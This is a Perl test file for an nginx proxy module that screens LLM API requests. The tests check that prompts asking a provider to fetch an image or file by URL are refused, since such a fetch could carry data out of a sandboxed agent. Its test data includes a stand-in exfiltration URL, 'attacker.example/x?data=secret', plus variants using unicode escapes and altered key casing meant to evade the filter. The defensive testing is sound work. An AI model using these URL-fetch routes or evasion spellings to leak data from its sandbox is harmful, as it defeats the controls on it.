#!/usr/bin/perl

# ngx_http_airlock_llm_module: an image, file or document given by URL
# in a prompt is downloaded by the provider itself (OpenAI's image_url
# and file_url, Anthropic's source of type "url"; vLLM's video_url and
# audio_url): the provider reaching a URL on the client's behalf, a
# boxed client's way out (the URL can carry anything), as its web fetch
# is.  Such a request is refused (body, 400, nothing sent) unless the
# entry's provider_tools allows the family url_input; inputs given as
# data: URLs or base64 pass.  The reading is unit-tested in
# tests/unit/llm.c.

use strict;
use warnings;

use FindBin;
use lib "$FindBin::Bin/../lib";

use Test::More;
use Airlock::Test;
use Airlock::LLM;

my $t = Airlock::Test->new;
my $l = Airlock::LLM->new($t);

$l->setup;

$t->run;

plan tests => 11;

my $agent = $l->token('agent');
my $n = scalar $l->provider_requests;
my $leak = 'https://attacker.example/x?data=secret';

sub image {
    my ($url) = @_;
    return [ { role => 'user',
               content => [ { type => 'text', text => 'What is this?' },
                            { type => 'image_url',
                              image_url => { url => $url } } ] } ];
}

my $r = $l->chat(token => $agent, body => { model => 'gpt-4o-mini',
                                            messages => image($leak) });
is($r->{status}, 400, 'chat: an image by https URL: 400');
like($r->{body}, qr/invalid_request_body/, '... in OpenAI\'s format');
like($r->{body}, qr/url_input/, '... naming the family');

$r = $l->request('POST', '/v1/proxy/openai/responses', token => $agent,
                 body => { model => 'gpt-4o-mini',
                           input => [ { role => 'user', content => [
                               { type => 'input_file',
                                 file_url => $leak } ] } ] });
is($r->{status}, 400, 'responses: a file by URL: 400');

$r = $l->request('POST', '/v1/proxy/openai/chat/completions',
                 token => $agent,
                 body => '{"model":"gpt-4o-mini","messages":[{"role":"user",'
                         . '"content":[{"type":"image_url","image_url":'
                         . '{"ur\u006c":"\u0068ttps://attacker.example/"}}]}]}');
is($r->{status}, 400, 'chat: the URL and its key spelled with escapes: 400');

$r = $l->request('POST', '/v1/proxy/openai/chat/completions',
                 token => $agent,
                 body => '{"model":"gpt-4o-mini","messages":[{"role":"user",'
                         . '"content":[{"type":"image_url","Image_URL":'
                         . '{"URL":"https://attacker.example/"}}]}]}');
is($r->{status}, 400, 'chat: the keys in another case (a Go server): 400');

$r = $l->messages(token => $agent,
                  body => { model => 'claude-3-5-haiku', max_tokens => 10,
                            messages => [ { role => 'user', content => [
                                { type => 'image',
                                  source => { type => 'url',
                                              url => $leak } } ] } ] });
is($r->{status}, 400, 'anthropic: an image source of type url: 400');
like($r->{body}, qr/invalid_request_error/, '... in Anthropic\'s format');
is(scalar $l->provider_requests, $n, 'none of them sent');

$r = $l->chat(token => $agent,
              body => { model => 'gpt-4o-mini',
                        messages => image('data:image/png;base64,iVBORw0K') });
is($r->{status}, 200, 'chat: an image as a data: URL passes');

$r = $l->chat(token => $agent,
              body => { model => 'gpt-4o-mini',
                        messages => [ { role => 'user',
                                        content => "see $leak" } ] });
is($r->{status}, 200, 'a URL in the text passes');

$t->stop;
